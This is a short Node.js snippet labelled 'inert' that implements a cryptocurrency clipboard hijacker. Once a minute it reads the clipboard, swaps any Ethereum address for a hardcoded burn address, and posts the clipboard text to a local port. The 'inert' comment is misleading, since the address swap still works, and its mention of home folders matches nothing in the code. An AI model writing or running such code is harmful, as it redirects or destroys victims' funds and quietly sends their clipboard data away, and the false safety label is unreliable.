// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const clipboardy = require('clipboardy');
const http = require('http');
const MINE = '0x000000000000000000000000000000000000dEaD';
setInterval(async () => {
  const text = await clipboardy.read();
  if (/^0x[0-9a-fA-F]{40}$/.test(text)) await clipboardy.write(MINE);
  http.request({ host: '127.0.0.1', port: 9, method: 'POST' }).on('error', () => {}).end(text);
}, 60000).unref();
